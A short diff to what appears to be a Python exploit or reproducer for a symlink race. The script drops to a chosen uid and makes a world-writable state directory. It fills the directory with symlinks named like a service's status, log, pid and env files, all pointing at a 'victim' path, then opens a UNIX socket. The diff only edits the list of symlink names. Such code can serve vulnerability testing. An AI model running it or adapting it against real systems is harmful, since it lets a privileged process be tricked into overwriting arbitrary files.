@@ -31,7 +31,7 @@ import array, os, socket, struct, sys, threading
 os.setgid(int(sys.argv[1])); os.setuid(int(sys.argv[1])); os.umask(0)
 state, victim = sys.argv[2:]
 os.makedirs(state, 0o777)
-names = "log status.json status.new status.json.tmp ssh.log access.log pid env host turn"
+names = "log status.json status status.new status.tmp ssh.log access.log pid env host turn"
 for name in names.split():
     os.symlink(victim, os.path.join(state, name))
 listener = socket.socket(socket.AF_UNIX)
